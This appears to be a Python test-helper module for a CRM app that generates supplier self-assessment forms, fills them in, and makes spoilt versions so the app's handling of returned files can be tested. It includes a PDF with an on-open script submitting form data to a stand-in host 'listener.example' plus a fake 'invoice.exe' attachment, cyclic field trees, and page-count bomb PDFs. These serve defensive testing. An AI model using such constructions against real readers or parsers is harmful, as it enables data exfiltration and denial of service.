"""Self-assessment forms for tests: made, filled in as a supplier would, and spoilt as files that come back are."""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Mapping
from datetime import date
from functools import cache
from pathlib import Path
from tempfile import TemporaryDirectory

import openpyxl
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

from crm_app.domain.questionnaire import Evidence
from crm_app.domain.self_assessment import ANSWER, PROOF, answer_named
from crm_app.reports.issue import Issue
from crm_app.reports.self_assessment_facts import FormFacts, FormItem, form_document
from crm_app.reports.self_assessment_files import write_form
from crm_app.services.questionnaires import shipped

SUPPLIER = "01900000-0000-7000-8000-000000000c01"
PAPER = "01900000-0000-7000-8000-000000000d01"
USUAL = "notifiable_below_threshold"


def facts_for(
    profile: str = USUAL, *, shown: Mapping[str, str] | None = None, name: str = "Clapton Kitchen (test)"
) -> FormFacts:
    """The facts of a form for an invented supplier; ``shown`` are the values of answers it shows already."""
    asked = shipped()
    chosen = asked.profile(profile)
    issue = Issue(
        date(2026, 11, 22), "Hackney (test)", reference="Paper 00D01", partners=("Hackney (test)", "Homerton (test)")
    )
    items = tuple(
        FormItem(
            item.key, item.number, asked.domains[item.domain], item.title, item.question, item.proof,
            chosen.notes.get(item.key, ""), (shown or {}).get(item.key, ""), item.evidence is Evidence.DATE,
        )
        for item in asked.items
        if item.key in chosen.items
    )  # fmt: skip
    return FormFacts(issue, asked.version, chosen.key, chosen.name, chosen.about, SUPPLIER, name, PAPER, items)


def blank(path: Path, facts: FormFacts | None = None) -> Path:
    """A form as it goes out."""
    path.write_bytes(_written(facts or facts_for(), path.suffix))
    return path


def made(path: Path, facts: FormFacts) -> Path:
    """The same, made anew."""
    write_form(facts, form_document(facts), path)
    return path


@cache
def _written(facts: FormFacts, ending: str) -> bytes:
    """Each form is made once in a run: setting its type takes longer than reading it."""
    with TemporaryDirectory() as folder:
        path = Path(folder) / f"form{ending}"
        write_form(facts, form_document(facts), path)
        return path.read_bytes()


def fill(path: Path, answers: Mapping[str, str], texts: Mapping[str, str] | None = None) -> Path:
    """Fill a form in where it lies: answers by item key, as values or words, and texts by the names of their fields."""
    if path.suffix == ".pdf":
        return _fill_pdf(path, answers, texts or {})
    return _fill_sheet(path, answers, texts or {})


def proof(item: str) -> str:
    """The name of the field beside an item."""
    return PROOF + item


def _fill_pdf(path: Path, answers: Mapping[str, str], texts: Mapping[str, str]) -> Path:
    writer = PdfWriter(clone_from=io.BytesIO(path.read_bytes()))
    wanted = {ANSWER + key: f"/{_value(said)}" for key, said in answers.items()} | dict(texts)
    for page in writer.pages:
        names = {_name(note) for note in page.get("/Annots", ())}
        here = {name: value for name, value in wanted.items() if name in names}
        if here:
            writer.update_page_form_field_values(page, here, auto_regenerate=False)
    writer.write(path)
    return path


def _name(note: object) -> str:
    found = note.get_object()  # type: ignore[attr-defined]
    return str(found.get("/T") or found["/Parent"].get_object()["/T"])


def _value(said: str) -> str:
    found = answer_named(said)
    return found.value if found else said


def _fill_sheet(path: Path, answers: Mapping[str, str], texts: Mapping[str, str]) -> Path:
    book = openpyxl.load_workbook(path)
    sheet = book.worksheets[0]
    for row in range(1, sheet.max_row + 1):
        key = sheet.cell(row, 1).value
        if key in answers:
            found = answer_named(answers[key])
            sheet.cell(row, 5).value = found.words if found else answers[key]
        if key and proof(str(key)) in texts:
            sheet.cell(row, 6).value = texts[proof(str(key))]
        if key in texts:
            sheet.cell(row, 4).value = texts[str(key)]
    book.save(path)
    return path


def flattened(path: Path) -> Path:
    """The form printed into a PDF: what was drawn stays, the fields are gone."""
    writer = PdfWriter(clone_from=io.BytesIO(path.read_bytes()))
    del writer._root_object["/AcroForm"]
    for page in writer.pages:
        page.pop("/Annots", None)
    writer.write(path)
    return path


def with_script_and_attachment(path: Path) -> Path:
    """The form with a script that would run on opening, and a file hidden in it."""
    writer = PdfWriter(clone_from=io.BytesIO(path.read_bytes()))
    writer.add_attachment("invoice.exe", b"MZ not a program")
    send = TextStringObject("this.submitForm('https://listener.example/');")
    script = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): send})
    writer._root_object[NameObject("/OpenAction")] = script
    named = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("on open"), script])})
    writer._root_object["/Names"].get_object()[NameObject("/JavaScript")] = named
    writer.write(path)
    return path


def encrypted(path: Path) -> Path:
    """The form under a password."""
    writer = PdfWriter(clone_from=io.BytesIO(path.read_bytes()))
    writer.encrypt("secret", algorithm="RC4-128")
    writer.write(path)
    return path


def with_xfa(path: Path) -> Path:
    """The form as Adobe's designer would make it over."""
    writer = PdfWriter(clone_from=io.BytesIO(path.read_bytes()))
    form = writer._root_object["/AcroForm"].get_object()
    form[NameObject("/XFA")] = ArrayObject([TextStringObject("template")])
    writer.write(path)
    return path


def bound_in(path: Path) -> Path:
    """The form as another program binds it into its own: names within names, and buttons set without their group."""
    writer = PdfWriter(clone_from=io.BytesIO(path.read_bytes()))
    form = writer._root_object["/AcroForm"].get_object()
    kids = form["/Fields"]
    above = DictionaryObject({NameObject("/T"): TextStringObject("form1[0]"), NameObject("/Kids"): kids})
    reference = writer._add_object(above)
    for kid in kids:
        field = kid.get_object()
        field[NameObject("/Parent")] = reference
        field[NameObject("/T")] = TextStringObject(f"{field['/T']}[0]")
        if field.get("/FT") == "/Btn":
            field.pop("/V", None)
    form[NameObject("/Fields")] = ArrayObject([reference])
    writer.write(path)
    return path


def in_a_circle(path: Path) -> Path:
    """A form whose fields are their own children, without end."""
    writer = PdfWriter(clone_from=io.BytesIO(path.read_bytes()))
    form = writer._root_object["/AcroForm"].get_object()
    circle = DictionaryObject({NameObject("/T"): TextStringObject("round")})
    reference = writer._add_object(circle)
    circle[NameObject("/Kids")] = ArrayObject([reference, *form["/Fields"]])
    form[NameObject("/Fields")] = ArrayObject([reference])
    writer.write(path)
    return path


def other_form(path: Path) -> Path:
    """A form of somebody else's, with one field."""
    writer = PdfWriter()
    writer.add_blank_page(300, 300)
    field = DictionaryObject(
        {
            NameObject("/FT"): NameObject("/Tx"),
            NameObject("/T"): TextStringObject("surname"),
            NameObject("/V"): TextStringObject("Example"),
            NameObject("/Ff"): NumberObject(0),
        }
    )
    fields = ArrayObject([writer._add_object(field)])
    writer._root_object[NameObject("/AcroForm")] = DictionaryObject({NameObject("/Fields"): fields})
    writer.write(path)
    return path


def pages_of(path: Path, count: int) -> Path:
    """A PDF that says it has so many pages, all of them the same one."""
    kids = "3 0 R " * count
    objects = (
        "<< /Type /Catalog /Pages 2 0 R >>",
        f"<< /Type /Pages /Count {count} /Kids [{kids}] >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
    )
    body, places = b"%PDF-1.4\n", []
    for number, text in enumerate(objects, 1):
        places.append(len(body))
        body += f"{number} 0 obj\n{text}\nendobj\n".encode()
    table = "".join(f"{place:010d} 00000 n \n" for place in places)
    end = f"xref\n0 4\n0000000000 65535 f \n{table}trailer << /Size 4 /Root 1 0 R >>\nstartxref\n{len(body)}\n%%EOF\n"
    path.write_bytes(body + end.encode())
    return path


def packed_pages_of(path: Path, count: int) -> Path:
    """The same packed into a few kilobytes, so that nothing in the file tells how many there are."""
    catalogue, tree = "<< /Type /Catalog /Pages 2 0 R >>", f"<< /Type /Pages /Count 4 /Kids [{'3 0 R ' * count}] >>"
    head = f"1 0 2 {len(catalogue) + 1} "
    packed = zlib.compress(f"{head}{catalogue} {tree}".encode())
    body, places = b"%PDF-1.5\n", []
    stream = f"<< /Type /ObjStm /N 2 /First {len(head)} /Filter /FlateDecode /Length {len(packed)} >>\nstream\n"
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"
    for number, text in ((3, page), (4, stream.encode() + packed + b"\nendstream")):
        places.append(len(body))
        body += f"{number} 0 obj\n".encode() + text + b"\nendobj\n"
    places.append(len(body))
    rows = [(0, 0, 65535), (2, 4, 0), (2, 4, 1), *((1, place, 0) for place in places)]
    table = b"".join(struct.pack(">BIH", *row) for row in rows)
    reference = f"5 0 obj\n<< /Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R /Length {len(table)} >>\nstream\n".encode()
    body += reference + table + f"\nendstream\nendobj\nstartxref\n{places[-1]}\n%%EOF\n".encode()
    path.write_bytes(body)
    return path
